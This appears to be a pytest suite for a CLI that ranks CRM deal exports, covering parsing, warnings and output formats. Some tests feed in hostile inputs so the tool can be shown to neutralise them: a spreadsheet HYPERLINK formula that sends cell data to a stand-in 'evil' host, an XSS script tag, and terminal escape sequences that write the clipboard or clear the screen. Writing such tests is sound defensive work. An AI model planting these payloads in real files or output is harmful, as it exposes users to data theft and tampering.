"""``rank`` on exports as CRMs write them: the manager's columns kept, real-world cells read,
warnings after the output, the chart, html, safe CSV, and flat memory on wide notes."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
from typer.testing import CliRunner

from dealrescue.cli.app import app
from tests.crm_exports import hubspot_export, open_deals_export, salesforce_export

runner = CliRunner()
DEALRESCUE = [sys.executable, "-m", "dealrescue"]


def invoke(*args: object):  # type: ignore[no-untyped-def]
    """rank with the pulse playbook these exports answer (unless the test names one)."""
    names = [str(a) for a in args]
    if names[:1] == ["rank"] and "--playbook" not in names and "-p" not in names:
        names += ["--playbook", "pulse"]
    return runner.invoke(app, names)


def rows_of(stdout: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(stdout)))


@pytest.fixture
def salesforce(tmp_path: Path) -> Path:
    path = tmp_path / "salesforce.csv"
    salesforce_export(path, 30, seed=3, notes_bytes=1 << 20)
    return path


@pytest.fixture
def hubspot(tmp_path: Path) -> Path:
    path = tmp_path / "hubspot.csv"
    hubspot_export(path, 30, seed=4)
    return path


def test_salesforce_export_ranks_every_account_and_keeps_the_managers_columns(salesforce: Path) -> None:
    result = invoke("rank", salesforce, "--format", "csv")
    assert result.exit_code == 0, result.stderr
    rows = rows_of(result.stdout)
    assert len(rows) == 30
    for column in ("Opportunity Owner", "Stage", "Amount", "Close Date", "Description", "amount_at_risk"):
        assert column in rows[0]
    limit = csv.field_size_limit(1 << 24)
    with salesforce.open(encoding="utf-8", newline="") as handle:
        source = {r["Account Name"]: r for r in csv.DictReader(handle)}
    csv.field_size_limit(limit)
    for row in rows:
        assert row["Opportunity Owner"] == source[row["deal"]]["Opportunity Owner"]
        assert row["Amount"] == source[row["deal"]]["Amount"]
    # The 1 MB description is over the CSV module's limit: skipped with a warning, the account still ranked.
    assert result.stderr.splitlines() == [
        f"warning: {salesforce}:2: column Description: a cell of 1,048,576 characters, over the 131,072 a CSV "
        "cell may hold: skipped",
        f"{salesforce}: no column for usage_trend, open_escalations, sponsor_in_place, last_review: read as blank "
        "cells (the default); name one with --map 'COLUMN=usage_trend'",
        f"{salesforce}: 30 rows: 30 ranked, 0 left out, 0 skipped; 1 of 270 answer cells not understood (0.4%)",
    ]


def test_hubspot_export_values_in_other_case_labels_and_separators_read_without_a_warning(hubspot: Path) -> None:
    result = invoke("rank", hubspot, "--format", "json")
    assert result.exit_code == 0, result.stderr
    # Nothing ignored; only the columns this export does not have are named (read as blank cells).
    assert result.stderr == (f"{hubspot}: no column for pulse, usage_trend, open_escalations, sponsor_in_place, "
                             "last_review: read as blank cells (the default); name one with --map 'COLUMN=pulse'\n")
    doc = json.loads(result.stdout)
    assert len(doc["rows"]) == 30 and doc["ignored_cells"] == [] and doc["bad_rows"] == []
    first = doc["rows"][0]
    assert first["columns"]["Deal owner"] and isinstance(first["amount"], float)


def test_real_world_cells_read_as_answers(tmp_path: Path) -> None:
    path = tmp_path / "cells.csv"
    path.write_text(
        "Account Name,Signals,Pulse,Asked Loss Question,Calling High,Competitor Knocking,Knows Their Fear,Renewal\n"
        "Plain,looking_at_options,3,no,no,yes,no,2027-03-31\n"
        "Spelled,Looking at options,3,FALSE,NO,Yes,N,3/31/2027\n"
        "Labels,They have mentioned; even in passing; looking at other options,3,0,No,YES,,2027-03-31 00:00:00\n",
        encoding="utf-8",
    )
    result = invoke("rank", path, "--format", "csv")
    assert result.stderr.splitlines()[0].startswith(f"warning: {path}:4: column Signals:")
    rows = {r["deal"]: r for r in rows_of(result.stdout)}
    assert rows["Spelled"]["step"] == rows["Plain"]["step"] and rows["Spelled"]["risk"] == rows["Plain"]["risk"]
    assert rows["Spelled"]["reasons"] == rows["Plain"]["reasons"]


def test_dates_that_read_only_day_first_say_so_and_dayfirst_reads_them(tmp_path: Path, write_playbook) -> None:  # type: ignore[no-untyped-def]
    playbook = write_playbook(textwrap.dedent("""\
        id: dated
        version: 1
        title: Dated
        summary: A date that counts.
        questions:
          - {id: renewal, prompt: Renewal?, type: date, required: false}
        scores:
          - id: risk
            title: Risk
            rules:
              - {when: 'renewal is not none and renewal < "2027-01-01"', points: 1, label: Renews soon}
        verdicts:
          - {id: fine, default: true, title: Fine, rationale: ok}
        """))
    path = tmp_path / "dates.csv"
    path.write_text("deal,renewal\nUS,12/31/2026\nEurope,31/12/2026\nDots,31.12.2026\nLater,1/2/2027\n", encoding="utf-8")
    us = invoke("rank", path, "-p", playbook, "--format", "csv")
    assert us.exit_code == 0
    assert f"warning: {path}:3: column renewal: '31/12/2026' reads only as day first: use --dayfirst (or DEALRESCUE_DAYFIRST=1)" in us.stderr
    assert {r["deal"]: r["risk"] for r in rows_of(us.stdout)} == {"US": "1", "Europe": "0", "Dots": "0", "Later": "0"}
    dayfirst = invoke("rank", path, "-p", playbook, "--format", "csv", "--dayfirst")
    assert "'12/31/2026' reads only as month first: drop --dayfirst" in dayfirst.stderr
    assert {r["deal"]: r["risk"] for r in rows_of(dayfirst.stdout)} == {"US": "0", "Europe": "1", "Dots": "1", "Later": "0"}


def test_a_cell_that_fits_two_choices_or_mixes_separators_is_an_error_naming_it(tmp_path: Path, write_playbook) -> None:  # type: ignore[no-untyped-def]
    playbook = write_playbook(textwrap.dedent("""\
        id: twins
        version: 1
        title: Twins
        summary: Two choices one cell could mean.
        questions:
          - id: status
            prompt: Status?
            type: select
            required: false
            choices:
              - {value: not_yet, label: Pending, points: {risk: 1}}
              - {value: pending, label: Not yet, points: {risk: 2}}
          - id: tags
            prompt: Tags?
            type: multiselect
            required: false
            choices:
              - {value: a, label: A, points: {risk: 1}}
              - {value: b, label: B, points: {risk: 1}}
        scores:
          - {id: risk, title: Risk}
        verdicts:
          - {id: fine, default: true, title: Fine, rationale: ok}
        """))
    path = tmp_path / "twins.csv"
    path.write_text("deal,status,tags\nOne,not yet,a;b|a\nTwo,not_yet,a|b\n", encoding="utf-8")
    result = invoke("rank", path, "-p", playbook, "--format", "csv")
    assert result.exit_code == 0
    lines = result.stderr.splitlines()
    assert f"warning: {path}:2: column status: 'not yet' fits more than one choice: not_yet, pending; write the value" in lines
    assert f"warning: {path}:2: column tags: 'a;b|a' mixes ; and | between choices: use one of them" in lines
    assert {r["deal"]: r["risk"] for r in rows_of(result.stdout)} == {"One": "0", "Two": "3"}


def test_reasons_never_contradict_one_question_gives_one_reason(tmp_path: Path) -> None:
    path = tmp_path / "four.csv"
    path.write_text("deal,pulse\nFour,4\n", encoding="utf-8")
    reasons = rows_of(invoke("rank", path, "--format", "csv").stdout)[0]["reasons"]
    assert ("Pulse of 4 or less" in reasons) != ("Pulse of 4 to 6" in reasons)


def test_by_amount_weights_the_first_score_by_the_amount(tmp_path: Path) -> None:
    path = tmp_path / "money.csv"
    path.write_text(
        "Deal Name,Amount (USD),signals\nSmall risky,\"$1,000\",announced\nBig watch,\"$900,000.00\",tip_of_iceberg\n"
        "Blank,,announced\nOdd,12 apples,announced\n",
        encoding="utf-8",
    )
    plain = [r["deal"] for r in rows_of(invoke("rank", path).stdout)]
    assert plain[-1] == "Big watch"
    weighted = invoke("rank", path, "--by", "amount")
    assert [r["deal"] for r in rows_of(weighted.stdout)][0] == "Big watch"
    assert f"warning: {path}:5: column Amount (USD): '12 apples' is not a number; amount ignored" in weighted.stderr
    at_risk = {r["deal"]: r["amount_at_risk"] for r in rows_of(weighted.stdout)}
    assert at_risk["Big watch"] == "900000" and at_risk["Small risky"] == "1000"
    named = invoke("rank", path, "--amount", "nope")
    assert named.exit_code == 2 and "--amount 'nope'" in named.stderr
    no_amount = tmp_path / "plain.csv"
    no_amount.write_text("deal,pulse\nA,3\n", encoding="utf-8")
    assert "--by amount: the file has no amount column" in invoke("rank", no_amount, "--by", "amount").stderr


def test_csv_cells_a_spreadsheet_would_run_are_neutralised_and_raw_keeps_them(tmp_path: Path) -> None:
    path = tmp_path / "evil.csv"
    path.write_text(
        'deal,Notes,Amount,pulse\n"=HYPERLINK(""http://evil/?""&A1,""x"")",@SUM(A1),-500,7\n+cmd,"\tTab",12,7\n'
        '-minus,-3,7,7\n',
        encoding="utf-8",
    )
    safe = rows_of(invoke("rank", path, "--format", "csv").stdout)
    deals = {r["deal"] for r in safe}
    assert deals == {"'=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "'+cmd", "'-minus"}
    notes = {r["Notes"] for r in safe}
    assert notes == {"'@SUM(A1)", "'\tTab", "-3"}  # a plain number is no formula
    assert {r["Amount"] for r in safe} == {"-500", "12", "7"}
    raw = rows_of(invoke("rank", path, "--format", "csv", "--raw").stdout)
    assert {r["deal"] for r in raw} == {'=HYPERLINK("http://evil/?"&A1,"x")', "+cmd", "-minus"}


def test_html_is_one_self_contained_page_with_the_table_and_the_chart(salesforce: Path, tmp_path: Path) -> None:
    evil = tmp_path / "evil.csv"
    evil.write_text('deal,signals\n"<script>alert(1)</script>",announced\n', encoding="utf-8")
    result = invoke("rank", evil, "--format", "html")
    assert result.exit_code == 0
    assert "<script>" not in result.stdout and "&lt;script&gt;" in result.stdout
    out = tmp_path / "report.html"
    assert invoke("rank", salesforce, "--format", "html", "-o", out).exit_code == 0
    page = out.read_text(encoding="utf-8")
    assert page.startswith("<!doctype html>") and page.rstrip().endswith("</html>")
    for outside in ("http://", "https://", " src=", " href=", "<script", "@import", "url("):
        assert outside not in page
    assert page.count("<tr><td>") == 30 + 5  # 30 accounts, 5 bands of the chart
    assert "Step 4: deciding to defect" in page and "Opportunity Owner" not in page and "Owner" in page


def test_the_table_is_one_line_per_account_then_the_chart_and_warnings_come_after(salesforce: Path) -> None:
    env = {**os.environ, "COLUMNS": "100"}
    result = subprocess.run([*DEALRESCUE, "rank", str(salesforce), "-p", "pulse", "--format", "table", "--top", "5"],
                            capture_output=False, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
                            env=env, check=False)
    assert result.returncode == 0
    lines = result.stdout.splitlines()
    assert lines[0] == "Account pulse: 30 ranked by step on the defection path, highest first"
    # At 100 columns the deal, owner, amount and close date keep their place; the reason gets what is left.
    assert lines[1].split()[:5] == ["#", "Deal", "Owner", "Amount", "Close"]
    assert [line.split()[0] for line in lines[2:7]] == ["1", "2", "3", "4", "5"]
    assert lines[7] == "… 25 more (--top 30 shows all; --format csv or json writes every column)"
    assert lines[8] == "Data quality: 30 rows: 30 ranked, 0 left out, 0 skipped; 1 of 270 answer cells not understood (0.4%)"
    assert all(len(line) <= 100 for line in lines[:9])
    assert all(re.search(r"  \d{4}-\d{2}-\d{2}  ", line) for line in lines[2:7])  # close dates as ISO dates
    wide = subprocess.run([*DEALRESCUE, "rank", str(salesforce), "-p", "pulse", "--format", "table", "--top", "5"],
                          capture_output=True, text=True, env={**os.environ, "COLUMNS": "200"}, check=False)
    header, *rows = wide.stdout.splitlines()[1:7]
    assert "Stage" in header and "Verdict" in header
    assert all("…" not in row[: header.index("Owner")] for row in rows)  # the deal column fits its names
    chart = lines.index("Step on the defection path by band")
    assert chart > 7 and "█" in lines[chart + 1]
    warning = next(n for n, line in enumerate(lines) if line.startswith("warning:"))
    assert warning > chart


def test_explain_columns_says_what_feeds_what(salesforce: Path) -> None:
    result = invoke("rank", salesforce, "--explain-columns")
    assert result.exit_code == 0
    lines = result.stdout.splitlines()
    assert lines[0] == "'Account Name': the deal name"
    assert "'Calling High': question calling_high" in lines
    assert "'Amount': the amount (shown and passed through)" in lines
    assert "'Description': passed through (no question reads it)" in lines
    assert "(no column) question competitor: every row takes no answer" in lines


@pytest.mark.pty
def test_csv_on_a_terminal_shows_escape_sequences_instead_of_running_them(tmp_path: Path) -> None:
    pexpect = pytest.importorskip("pexpect")
    path = tmp_path / "esc.csv"
    path.write_text('deal,Notes,pulse\n"Evil\x1b]52;c;SGVsbG8=\x07",\x1b[2J\u202e,7\n', encoding="utf-8")
    child = pexpect.spawn(sys.executable, ["-m", "dealrescue", "rank", str(path), "-p", "pulse", "--format", "csv"],
                          encoding="utf-8", timeout=60)
    child.expect(pexpect.EOF)
    screen = child.before
    assert "\x1b]52" not in screen and "\x1b[2J" not in screen
    assert "Evil\u241b]52" in screen


def test_open_deals_rank_by_qualify_by_default_with_reasons_per_row(tmp_path: Path) -> None:
    path = tmp_path / "open-deals.csv"
    open_deals_export(path, 30, seed=7)
    result = runner.invoke(app, ["rank", str(path), "--format", "csv"])
    assert result.exit_code == 0, result.stderr
    assert result.stderr == ""
    rows = rows_of(result.stdout)
    assert len(rows) == 30
    scores = [float(r["qualification"]) for r in rows]
    assert scores == sorted(scores, reverse=True) and scores[0] > scores[-1]
    assert all(r["deal"].startswith(r["Account Name"] + " - ") for r in rows)  # the opportunity is the row
    assert sum(1 for r in rows if r["reasons"]) >= 28
    assert {r["verdict"] for r in rows} <= {"qualified", "at_risk", "disqualify"}
    table = runner.invoke(app, ["rank", str(path), "--format", "table", "--top", "3"])
    assert table.stdout.splitlines()[0].startswith("Deal qualification (MEDDPICC): 30 ranked by qualification")


def test_an_export_none_of_whose_columns_feeds_a_question_is_refused_not_ranked_all_alike(tmp_path: Path) -> None:
    export = tmp_path / "hubspot-deals.csv"
    export.write_text("Deal Name,Deal Stage,Amount,Close Date,Deal owner\nAcme,closedwon,12500,2026-12-01,Ann\n"
                      "Beta,contractsent,8000,2027-01-15,Bob\n", encoding="utf-8")
    refused = subprocess.run([*DEALRESCUE, "rank", str(export), "-p", "pulse"], capture_output=True, text=True, timeout=60)
    assert refused.returncode == 2 and refused.stdout == ""
    assert refused.stderr.splitlines()[0] == (
        f"error: {export}: none of its columns feeds a question playbook pulse scores, so every row would get the same verdict")
    explained = subprocess.run([*DEALRESCUE, "rank", str(export), "-p", "pulse", "--explain-columns"],
                               capture_output=True, text=True, timeout=60)
    assert explained.returncode == 0 and "'Deal Name': the deal name" in explained.stdout  # the way to see why
    mapped = subprocess.run([*DEALRESCUE, "rank", str(export), "-p", "pulse", "--map", "Deal Stage=usage_trend", "--format", "csv"],
                            capture_output=True, text=True, timeout=60)
    assert mapped.returncode in (0, 2) and "none of its columns feeds" not in mapped.stderr
